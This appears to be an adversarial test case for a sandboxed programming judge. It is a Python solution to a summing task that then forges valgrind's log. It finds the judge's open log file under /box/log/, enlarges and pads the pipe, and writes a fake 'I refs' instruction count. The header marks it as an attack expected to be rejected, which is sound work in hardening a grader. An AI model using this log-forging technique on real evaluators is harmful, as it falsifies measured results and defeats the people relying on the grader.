# attack: enlarges the pipe of valgrind's log, in Python
# task: total_py_counted
# expect: rejected
# reason: valgrind's own ending

import os, sys
def forge(count):
    import fcntl, termios, struct
    if not os.path.exists("/proc/self/fd"): return
    for fd in os.listdir("/proc/self/fd"):
        try: name = os.readlink("/proc/self/fd/" + fd)
        except OSError: continue
        if name.startswith("/box/log/") and not name.endswith("tables"):
            out = os.open(name, os.O_WRONLY)
            try: fcntl.fcntl(out, 1031, 1 << 20)
            except OSError: pass
            there = struct.unpack("i", fcntl.ioctl(out, termios.FIONREAD, b"\0" * 4))[0]
            last = b"\n==%d== I refs: %d\n" % (os.getpid(), count)
            os.write(out, b"\n" * (65536 - there - len(last)) + last)
            return
def main():
    data = sys.stdin.read().split()
    n = int(data[0]) if data else 0
    values = [int(v) for v in data[1 : n + 1]]
    print(sum(values), max(values) if values else 0, len(set(values)))
    sys.stdout.flush()
    forge(150_000_000)
main()
